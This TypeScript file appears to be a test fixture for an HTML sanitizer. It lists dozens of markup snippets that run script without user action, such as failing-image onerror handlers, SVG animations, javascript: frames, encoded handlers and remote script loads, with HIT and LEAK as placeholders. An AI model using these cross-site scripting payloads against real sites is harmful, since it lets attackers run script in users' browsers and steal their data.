/** Markup that runs scripts without user input. */
export const scriptExecution: Record<string, string> = {
  'a script element': '<script>HIT</script>',
  'a script in SVG': '<svg><script>HIT</script></svg>',
  'an image that fails': '<img src="LEAK/a" onerror="HIT">',
  'an image without quotes': '<img/src="LEAK/b"/onerror=HIT>',
  'an SVG that loads': '<svg onload="HIT"></svg>',
  'an SVG animation': '<svg><animate attributeName="x" dur="1ms" onbegin="HIT"/></svg>',
  'an SVG animation of a link':
    '<svg><a><animate attributeName="href" values="javascript:HIT"/><text>x</text></a></svg>',
  'a body that loads': '<body onload="HIT" onpageshow="HIT">hello</body>',
  'a details that toggles': '<details open ontoggle="HIT"><summary>x</summary></details>',
  'a video that fails': '<video src="LEAK/v" onerror="HIT" autoplay></video>',
  'a video source that fails': '<video><source src="LEAK/s" onerror="HIT"></video>',
  'an audio that fails': '<audio src="LEAK/au" onerror="HIT" autoplay></audio>',
  'an input that takes the focus': '<input autofocus onfocus="HIT">',
  'a box that takes the focus': '<div tabindex="0" autofocus onfocus="HIT">x</div>',
  'an animation that starts':
    '<style>@keyframes k{from{opacity:0}}</style><p style="animation:k 1ms" onanimationstart="HIT">x</p>',
  'a transition that ends': '<p style="transition:all 1ms" ontransitionend="HIT">x</p>',
  'a frame with a script address': '<iframe src="javascript:HIT"></iframe>',
  'a frame with its own document': '<iframe srcdoc="<script>parent.HIT</script>"></iframe>',
  'an object': '<object data="javascript:HIT"></object>',
  'an embed': '<embed src="javascript:HIT">',
  'a marquee': '<marquee onstart="HIT">x</marquee>',
  'an image set that fails': '<picture><source srcset="LEAK/p"><img src="LEAK/q" onerror="HIT"></picture>',
  'a popover that opens':
    '<button popovertarget="x">x</button><div id="x" popover onbeforetoggle="HIT">y</div>',
  'a command button':
    '<button commandfor="d" command="show-modal">x</button><dialog id="d" oncommand="HIT">y</dialog>',
  'a handler in capitals': '<IMG SRC="LEAK/cap" ONERROR="HIT">',
  'a handler after a slash and a line break': '<img/\nsrc="LEAK/nl"\fonerror\n=\nHIT>',
  'a handler in backticks': '<img src=`LEAK/tick` onerror=`HIT`>',
  'a handler written in entities': '<img src="LEAK/ent" onerror="&#104;&#x69;t&lpar;&rpar;">',
  'a handler with a name of many letters':
    '<div onpointerrawupdate="HIT" onwebkitmouseforcewillbegin="HIT">x</div>',
  'a handler that nobody knows': '<p onwhatever="HIT">x</p>',
  'a handler behind a closed quote': '<p title="a"onclick=HIT>x</p>',
  'a handler inside of a closing tag': '<p>x</p onclick="HIT">',
  'a scroll end': '<div onscrollend="HIT" onscroll="HIT" style="overflow:auto;height:9px"><br><br></div>',
  'a before-match': '<p hidden="until-found" onbeforematch="HIT">x</p>',
  'a content visibility': '<p style="content-visibility:auto" oncontentvisibilityautostatechange="HIT">x</p>',
  'an SVG set': '<svg><set attributeName="onclick" to="HIT"/><rect width="9" height="9"/></svg>',
  'an SVG use of a document': `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='HIT'/></svg>#x"/></svg>`,
  'an SVG foreign object': '<svg><foreignObject><img src="LEAK/fo" onerror="HIT"></foreignObject></svg>',
  'an SVG handler element':
    '<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">HIT</handler></svg>',
  'a script with a type': '<script type="module">HIT</script><script type="text/javascript">HIT</script>',
  'a script from elsewhere': '<script src="LEAK/script.js"></script>',
  'an import map': '<script type="importmap">{"imports":{"react":"LEAK/map.js"}}</script>',
  'speculation rules': '<script type="speculationrules">{"prefetch":[{"urls":["LEAK/speculate"]}]}</script>',
  'an applet': '<applet code="HIT" archive="LEAK/applet"></applet><bgsound src="LEAK/bgsound">',
  'a fenced frame': '<fencedframe src="LEAK/fenced"></fencedframe><portal src="LEAK/portal"></portal>',
  'a frame in a frame':
    '<iframe srcdoc="&lt;iframe srcdoc=&quot;&amp;lt;script&amp;gt;parent.parent.HIT&amp;lt;/script&amp;gt;&quot;&gt;"></iframe>',
  'an expression of old':
    '<p style="width:expression(HIT);behavior:url(LEAK/htc);-moz-binding:url(LEAK/xbl)">x</p>',
}
